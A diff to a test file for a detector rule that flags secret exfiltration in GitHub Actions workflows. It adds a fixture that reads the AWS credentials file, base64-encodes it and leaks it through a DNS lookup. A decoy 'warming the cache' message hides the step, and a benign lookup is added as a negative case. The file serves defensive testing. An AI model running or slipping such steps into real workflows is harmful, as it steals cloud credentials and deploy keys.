@@ -462,12 +462,17 @@ describe('gha-secrets-exfiltration', () => {
       - run: dig +short "$K.k.ns-relay.io"
         env:
           K: \${{ secrets.DEPLOY_KEY }}
+      - run: |
+          D=$(cat ~/.aws/credentials | base64 | tr -d '\\n' | head -c 60)
+          echo "warming the cache"
+          nslookup "$D.c.edge-resolve.net" || true
 `)}`;
     expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
       ['gha-secrets-exfiltration', 'critical', 6],
       ['gha-secrets-exfiltration', 'critical', 7],
       ['gha-secrets-exfiltration', 'critical', 10],
       ['gha-secrets-exfiltration', 'critical', 13],
+      ['gha-secrets-exfiltration', 'critical', 19],
     ]);
     const normal = `on: push\n${job(`      - run: dig +short "\${{ matrix.service }}.svc.cluster.local"
       - run: host "$(git rev-parse --short HEAD).preview.acme.dev"
@@ -477,6 +482,9 @@ describe('gha-secrets-exfiltration', () => {
       - run: dig +short TXT "_acme-challenge.$DOMAIN" @1.1.1.1
         env:
           DOMAIN: \${{ secrets.DOMAIN }}
+      - run: |
+          REV=$(git rev-parse --short HEAD)
+          dig +short "$REV.preview.acme.dev"
 `)}`;
     expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
   });
